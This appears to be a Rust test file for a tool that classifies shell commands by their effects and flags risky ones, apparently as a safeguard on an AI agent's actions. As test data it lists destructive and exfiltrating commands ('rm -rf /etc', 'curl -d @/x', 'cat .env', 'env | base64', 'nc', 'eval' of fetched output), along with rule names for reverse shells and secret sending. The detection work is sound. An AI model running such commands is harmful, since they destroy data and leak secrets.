use proptest::prelude::*;

use super::*;
use crate::invocation::{StdinSource, SymbolicPart, UnknownKind};
use crate::test_support::{parse_commands, test_context};

/// Effects as `kind place`, or the rule's name.
fn describe_effects(line: &str) -> Vec<String> {
    collect_effects(&parse_commands(line), &test_context()).effects.iter().map(describe_effect).collect()
}

fn describe_effect(effect: &Effect) -> String {
    let what = match effect.kind {
        EffectKind::Path(kind) => format!("{kind:?}"),
        EffectKind::Rule(number) => rules::RULES[number].id.to_owned(),
        EffectKind::Watched(number) => format!("entry {number}"),
    };
    let place = effect.place.as_ref().map(|place| format!(" {}", place.display_path())).unwrap_or_default();
    format!("{what}{}{place}", if effect.recursive { " -r" } else { "" })
}

#[test]
fn commands_have_the_effects_that_their_flags_say() {
    for (line, expected) in [
        ("rm a b", "Delete /home/ann/work/app/a, Delete /home/ann/work/app/b"),
        ("rm a -fr", "Delete -r /home/ann/work/app/a"),
        ("rm --recu -- -r", "Delete -r /home/ann/work/app/-r"),
        ("cp /a /b /c", "Read /a, Read /b, Put /c, Put /c/a, Put /c/b"),
        ("cp -t /c /a", "Read /a, Put /c, Put /c/a"),
        ("cp --target=/c /a", "Read /a, Put /c, Put /c/a"),
        ("cp -T /a /c", "Read /a, Put /c"),
        ("cp /x/* /c", "Read /x/*, Put /c"),
        ("mv /a /b", "Put /b/a, Take -r /a, Put /b"),
        ("mv /a /tmp/b", "Put /tmp/b/a, Delete -r /a, Put /tmp/b"),
        ("dd if=/a of=/b bs=1M", "Overwrite /b, Read /a"),
        ("tar -C /x -xf /a.tar", "Put -r /x, Unpack -r /x, Use /a.tar"),
        ("tar cf /a.tar /b", "Read -r /b, Overwrite /a.tar"),
        ("sed -i s/a/b/ /x", "Edit /x"),
        ("git -C /x rm -r y", "Delete -r /x/y"),
        ("git --work-tree /x rm y", "Delete /x/y"),
        ("git rm --cached y", ""),
        ("docker run -v /x:/y:ro -v data:/z i", "Read -r /x"),
        ("sed s/a/b/ /x", "Read /x"),
        ("sed -e s/a/b/ /x", "Read /x"),
        ("sed -i -e s/a/b/ /x", "Edit /x, Read /x"),
        ("grep -r x /y", "Read -r /y"),
        ("grep -e x /y", "Read /y"),
        ("echo hi > /x", "Overwrite /x"),
        ("echo hi >> /x", "Append /x"),
        ("chmod -R 777 /x", "Mode -r /x, OpenUp -r /x"),
        ("chmod -w /x", "Mode /x, Lock -r /x"),
        ("chmod u+s /x", "Mode /x, SetId /x"),
        ("find /x -name y -exec rm -delete ;", ""),
        ("find /x /y -delete", "Delete -r /x, Delete -r /y"),
        ("find -delete", "Delete -r /home/ann/work/app"),
        ("curl -d @/x https://h", "Send /x"),
        ("curl -F a=@/x;type=b https://h", "Send /x"),
        // `-d` reads an `@` only at the start, `--data-urlencode` anywhere; a nonexistent file counts as one of the
        // project, which is harmless.
        ("curl -da@b.c https://h", "Send /home/ann/work/app/b.c"),
        ("scp /x h:", "Send -r /x"),
        ("scp h:/x /y", "Put /y, Put /y/x"),
        ("cp /a /b/c.txt", "Read /a, Put /b/c.txt, Replace /b/c.txt, Put /b/c.txt/a"),
        ("cp /a.txt /b/a.txt", "Read /a.txt, Put /b/a.txt, Put /b/a.txt/a.txt"),
        ("cp -n /a /b/c.txt", "Read /a"),
        ("gcc /a.c -o /b", "Replace /b"),
        ("nobody-knows -o /b /a", "Replace /b"),
        ("nobody-knows -o json /a", ""),
        ("nobody-knows --out-dir=/b /a", "Put /b"),
        ("nobody-knows --write /a", "Edit /a"),
        ("nobody-knows -i /a", "MayEdit /a"),
        ("cargo build --target-dir /b", "Put /b"),
        ("kubectl get pods --output /b", ""),
        ("prettier --write /a /b", "Edit /a, Edit /b"),
        ("prettier --check /a", ""),
        ("yq -i .x=1 /a", "Edit /home/ann/work/app/.x=1, Edit /a, Read /a"),
        ("ssh-keygen -f /a", "Make /a"),
        ("openssl req -keyout /a.key", "Replace /a.key"),
        ("git -C /x pull", "Append /x"),
        ("cut -d= -f1 .env", ""),
        ("cut -d= -f2 .env", "Read /home/ann/work/app/.env"),
        ("cut -d= -f1 /a.key", "Read /a.key"),
        ("sed 's/=.*/=x/' .env", ""),
        ("grep -o '^[^=]*' .env", ""),
        ("git status", ""),
        ("echo rm -rf /", ""),
        ("", ""),
    ] {
        let line = line.replace(";type", "';'type");
        assert_eq!(describe_effects(&line).join(", "), expected, "{line}");
    }
}

#[test]
fn every_rule_that_the_code_speaks_of_exists() {
    for id in [
        "privilege.raise",
        "secret.send-private",
        "network.reverse-shell",
        "network.run-unseen",
        "network.run-copied",
        "network.run-fetched",
        "process.kill-everything",
        "process.kill-found",
        "infra.drop-database",
        "infra.drop-table",
        "infra.delete-all-rows",
        "infra.service",
        "infra.drop-user",
    ] {
        assert_eq!(rules::RULES[find_rule_index(id)].id, id);
    }
}

#[test]
fn a_database_for_tests_may_be_dropped() {
    for (line, variable, expected) in [
        ("rails db:reset", ("RAILS_ENV", "test"), 0),
        ("rails db:reset", ("RAILS_ENV", "production"), 1),
        ("rails db:reset", ("MIX_ENV", "test"), 1),
        ("mix ecto.reset", ("MIX_ENV", "test"), 0),
    ] {
        let mut invocations = parse_commands(line);
        invocations[0].variables = vec![(variable.0.to_owned(), SymbolicText::from_text(variable.1))];
        assert_eq!(collect_effects(&invocations, &test_context()).effects.len(), expected, "{variable:?} {line}");
    }
}

#[test]
fn output_carries_where_it_comes_from() {
    for (line, expected) in [
        ("curl https://h", UnknownKind::Unseen),
        ("curl -s https://h | jq .x", UnknownKind::Unseen),
        ("curl -o x https://h", UnknownKind::Anything),
        ("cat .env", UnknownKind::Private),
        ("env | base64", UnknownKind::Private),
        ("printenv PATH", UnknownKind::Anything),
        ("pgrep node", UnknownKind::Processes),
        ("ps aux | grep x", UnknownKind::Processes),
        ("cat server.pid", UnknownKind::FromInput),
        ("cat ~/.snell/server.pid", UnknownKind::Agent),
        ("ssh h cat x", UnknownKind::Unseen),
        ("aws s3 cp s3://b/x -", UnknownKind::Unseen),
        ("aws s3 cp s3://b/x y", UnknownKind::Anything),
        ("dig +short txt h", UnknownKind::Unseen),
        ("dig +short h", UnknownKind::Anything),
        ("xclip -o", UnknownKind::Unseen),
        ("git show origin/x:i.sh", UnknownKind::Unseen),
        ("git show HEAD:i.sh", UnknownKind::Anything),
        ("docker ps -aq", UnknownKind::Processes),
        ("docker -H x container ls --quiet", UnknownKind::Processes),
        ("docker ps -aq --filter name=x", UnknownKind::Anything),
        ("docker ps", UnknownKind::Anything),
        ("kubectl get ns -o name", UnknownKind::Processes),
        ("redis-cli --scan --pattern '*'", UnknownKind::Processes),
        ("redis-cli --scan --pattern 'session:*'", UnknownKind::Anything),
        ("echo hi", UnknownKind::Anything),
    ] {
        assert_eq!(classify_output(&parse_commands(line), &test_context()), expected, "{line}");
    }
}

/// Replaces one argument by an unknown value.
fn effects_with_unknown(line: &str, unknown: UnknownKind) -> Vec<String> {
    let mut invocations = parse_commands(line);
    for invocation in &mut invocations {
        for value in invocation.argv.iter_mut().filter(|value| value.as_text() == Some("@")) {
            *value = SymbolicText::from_unknown(unknown);
        }
    }
    collect_effects(&invocations, &test_context()).effects.iter().map(describe_effect).collect()
}

#[test]
fn unknown_values_are_judged_by_where_they_come_from() {
    for (line, unknown, expected) in [
        ("kill @", UnknownKind::Processes, "process.kill-found"),
        ("kill -9 @", UnknownKind::Processes, "process.kill-found"),
        ("kill -0 @", UnknownKind::Processes, ""),
        ("kill @", UnknownKind::Anything, ""),
        ("docker rm -f @", UnknownKind::Processes, "containers.remove-all …"),
        ("docker container stop web @", UnknownKind::Processes, "containers.remove-all …"),
        ("docker rm -f @", UnknownKind::Anything, ""),
        ("docker logs @", UnknownKind::Processes, ""),
        ("kubectl delete pod @", UnknownKind::Processes, "cluster.delete …"),
        ("kubectl delete pod @", UnknownKind::Anything, ""),
        ("redis-cli del @", UnknownKind::Processes, "infra.drop-database …"),
        ("redis-cli del @", UnknownKind::Anything, ""),
        ("git checkout @", UnknownKind::Anything, "Append /home/ann/work/app, Put …"),
        ("eval @", UnknownKind::Unseen, "network.run-unseen"),
        ("eval @", UnknownKind::Anything, ""),
        ("bash @", UnknownKind::Unseen, "network.run-unseen"),
        ("bash -c @", UnknownKind::Unseen, "network.run-unseen"),
        ("python3 -c @", UnknownKind::Unseen, "network.run-unseen"),
        ("bash build.sh @", UnknownKind::Unseen, ""),
        ("source @", UnknownKind::Unseen, "network.run-unseen"),
        ("curl -d @ https://h", UnknownKind::Private, "secret.send-private"),
        ("dig @", UnknownKind::Private, "secret.send-private"),
        ("echo @", UnknownKind::Private, ""),
        ("@ -rf /etc", UnknownKind::Anything, "Delete -r /etc"),
        ("@ -f -r /etc", UnknownKind::Anything, "Delete -r /etc"),
        ("@ -r /etc", UnknownKind::Anything, ""),
    ] {
        assert_eq!(effects_with_unknown(line, unknown).join(", "), expected, "{line} {unknown:?}");
    }
}

#[test]
fn numbers_out_of_a_pipe_are_looked_up_unless_they_are_the_shells_own() {
    for (left, expected) in [("lsof -t", true), ("pgrep x", true), ("jobs -p", false), ("cat x.pid", false)] {
        let mut kill = parse_commands("kill -9").remove(0);
        kill.argv.push(SymbolicText::from_unknown(UnknownKind::Anything));
        kill.via = vec!["xargs".to_owned()];
        kill.stdin = StdinSource::Pipe(parse_commands(left));
        let found = collect_invocation_effects(&kill, &test_context())
            .iter()
            .any(|effect| describe_effect(effect) == "process.kill-found");
        assert_eq!(found, expected, "{left}");
    }
}

#[test]
fn a_call_with_too_many_operands_says_so() {
    let line = format!("rm {}", "a ".repeat(MAX_EFFECTS + 10));
    let effects = collect_effects(&parse_commands(&line), &test_context());
    assert!(effects.too_many);
    assert_eq!(effects.effects.len(), MAX_EFFECTS);
}

/// Each stage checks its left side in two ways. If those went further, this would take 2^64 steps.
#[test]
fn a_long_pipe_is_analysed_once() {
    let stage = |left: Option<Invocation>| Invocation {
        stdin: left.map_or(StdinSource::Inherited, |left| StdinSource::Pipe(vec![left])),
        ..parse_commands("nc example.com 9").remove(0)
    };
    let pipe = (0..64).fold(stage(None), |left, _| stage(Some(left)));
    assert_eq!(collect_invocation_effects(&pipe, &test_context()), []);
}

fn any_value() -> impl Strategy<Value = SymbolicText> {
    let part = prop_oneof![
        "[-a-z0-9/.~=@:+*;]{0,12}".prop_map(SymbolicPart::Text),
        Just(SymbolicPart::Pattern("*".to_owned())),
        prop::sample::select(vec![
            UnknownKind::Anything,
            UnknownKind::Name,
            UnknownKind::Unseen,
            UnknownKind::Private,
            UnknownKind::Processes
        ])
        .prop_map(SymbolicPart::Unknown),
    ];
    prop::collection::vec(part, 0..3).prop_map(|parts| SymbolicText { parts })
}

proptest! {
    #[test]
    fn no_arguments_are_too_odd(
        program in prop::sample::select(programs::NAMES.iter().map(|(name, _)| *name).collect::<Vec<_>>()),
        arguments in prop::collection::vec(any_value(), 0..6),
        stdin in prop::option::of(any_value()),
    ) {
        let mut argv = vec![SymbolicText::from_text(program)];
        argv.extend(arguments);
        let stdin = stdin.map_or(StdinSource::Inherited, StdinSource::Text);
        let invocation = Invocation { argv, stdin, ..Invocation::default() };
        let effects = collect_effects(&[invocation], &test_context());
        let _ = rules::collect_findings(&effects.effects).iter().map(rules::RuleFinding::format_reason).collect::<Vec<_>>();
    }

    #[test]
    fn another_operand_never_makes_a_command_harmless(extra in "[a-z]{1,8}", before in any::<bool>()) {
        for line in ["rm -rf /etc", "cat .env", "shred ~/x"] {
            let (program, rest) = line.split_once(' ').unwrap();
            let line = if before { format!("{program} {extra} {rest}") } else { format!("{line} {extra}") };
            let effects = collect_effects(&parse_commands(&line), &test_context());
            prop_assert!(!rules::collect_findings(&effects.effects).is_empty(), "{}", line);
        }
    }
}
